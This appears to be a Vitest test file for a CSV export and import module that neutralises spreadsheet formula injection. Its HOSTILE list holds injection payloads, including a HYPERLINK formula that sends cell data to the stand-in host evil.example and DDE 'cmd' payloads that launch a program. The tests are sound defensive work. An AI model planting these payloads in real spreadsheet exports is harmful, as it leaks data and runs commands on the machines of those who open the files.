import { describe, expect, it } from 'vitest';
import { csvLine, neutraliseCell, parseCsv, restoreCell } from './csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('cells a spreadsheet would run as a formula', () => {
  it('are written with an apostrophe before them', () => {
    for (const cell of HOSTILE) expect(neutraliseCell(cell), cell).toBe(`'${cell}`);
    expect(neutraliseCell('+91 98765 43210')).toBe("'+91 98765 43210");
    expect(neutraliseCell('+12')).toBe("'+12");
  });

  it('leave everything else as it is, negative numbers too', () => {
    for (const cell of ['', 'Sheesham Sofa', "'90s classic", "Don't soak", 'a=b', ' =1', '-5', '-12.50', '0'])
      expect(neutraliseCell(cell), cell).toBe(cell);
  });

  it('are read back exactly, including values that begin with apostrophes', () => {
    const values = [
      ...HOSTILE,
      '+91 98765 43210',
      '-5',
      '-',
      "'",
      "'=1",
      "''=1",
      "'-5",
      "'Kashmir' rug",
      'plain',
      '',
    ];
    for (const value of values) expect(restoreCell(neutraliseCell(value)), value).toBe(value);
  });

  it('typed in a spreadsheet as text (an apostrophe first) import as the spreadsheet shows them', () => {
    expect(restoreCell("'=1+1")).toBe('=1+1');
    expect(restoreCell("'Kashmir' rug")).toBe("'Kashmir' rug");
  });
});

describe('a CSV line and a file', () => {
  it('neutralise every cell on the way out and restore it on the way in', () => {
    const line = csvLine(['SKU-1', HOSTILE[0]!, '-5', '+91 98765 43210']);
    expect(line).toBe(
      `SKU-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-5,'+91 98765 43210\r\n`,
    );
    const parsed = parseCsv(`sku,name,delta,phone\r\n${line}`);
    expect(parsed).toEqual({
      header: ['sku', 'name', 'delta', 'phone'],
      rows: [{ row: 2, cells: ['SKU-1', HOSTILE[0], '-5', '+91 98765 43210'] }],
    });
  });
});
